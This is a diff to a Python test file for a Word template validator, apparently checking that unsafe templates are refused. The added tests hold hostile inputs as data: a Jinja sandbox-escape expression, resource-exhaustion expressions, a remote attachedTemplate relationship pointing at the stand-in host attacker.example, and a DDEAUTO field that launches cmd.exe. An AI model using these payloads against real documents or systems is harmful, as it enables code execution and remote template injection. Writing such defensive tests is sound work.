@@ -76,11 +76,46 @@ def test_the_body_placeholder_inside_a_sentence_is_refused():
     assert refused(template) == [("template_body", None)]
 
 
-def test_the_template_s_jinja_cannot_reach_python():
-    attack = "{{ tieu_de.__class__.__mro__[1].__subclasses__() }}"
-    template = edited(default_template(), lambda xml: xml.replace("{{ tieu_de }}", attack, 1)
-                      .replace("{{ nguoi_ky }}", "{{ nguoi_ky }}{{ tieu_de }}"))
-    assert refused(template) == [("template_unsafe", None)]
+@pytest.mark.parametrize("expression", [
+    "{{ tieu_de.__class__.__mro__[1].__subclasses__() }}",  # Python's internals
+    "{{ so_hieu * 30000000 }}",  # a string of hundreds of megabytes
+    "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}",
+    "{{ so_hieu|upper }}"])
+def test_a_template_holds_placeholders_only(expression):
+    """No calculations, filters, loops or globals: refused before anything is rendered."""
+    import time
+
+    template = edited(default_template(), lambda xml: xml.replace(
+        "{{ nguoi_ky }}", "{{ nguoi_ky }}" + expression.replace("<", "&lt;")))
+    start = time.perf_counter()
+    found = refused(template)
+    assert found[0][0] == "template_expression" and time.perf_counter() - start < 5
+
+
+def with_member(template: bytes, name: str, body: bytes, rels: str | None = None) -> bytes:
+    """The template with a part added (and, with `rels`, a relationship file written)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(template)) as src, zipfile.ZipFile(out, "w") as dst:
+        for item in src.infolist():
+            dst.writestr(item, src.read(item.filename))
+        dst.writestr(name, body)
+    return out.getvalue()
+
+
+def test_nothing_from_outside_a_remote_template_objects_or_dde_fields():
+    remote = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+              'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.'
+              'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+              'Target="file://attacker.example/share/t.dotm" TargetMode="External"/>'
+              '</Relationships>').encode()
+    template = with_member(default_template(), "word/_rels/settings.xml.rels", remote)
+    assert refused(template)[0][0] == "template_outside"
+    dde = edited(default_template(), lambda xml: xml.replace(
+        "{{ nguoi_ky }}", '{{ nguoi_ky }}</w:t></w:r></w:p><w:p><w:fldSimple '
+        'w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe x"/></w:p><w:p><w:r><w:t>'))
+    assert refused(dde)[0][0] == "template_outside"
+    embedded = with_member(default_template(), "word/embeddings/oleObject1.bin", b"x")
+    assert refused(embedded)[0][0] == "template_outside"
 
 
 def test_what_is_not_a_word_document_is_refused():
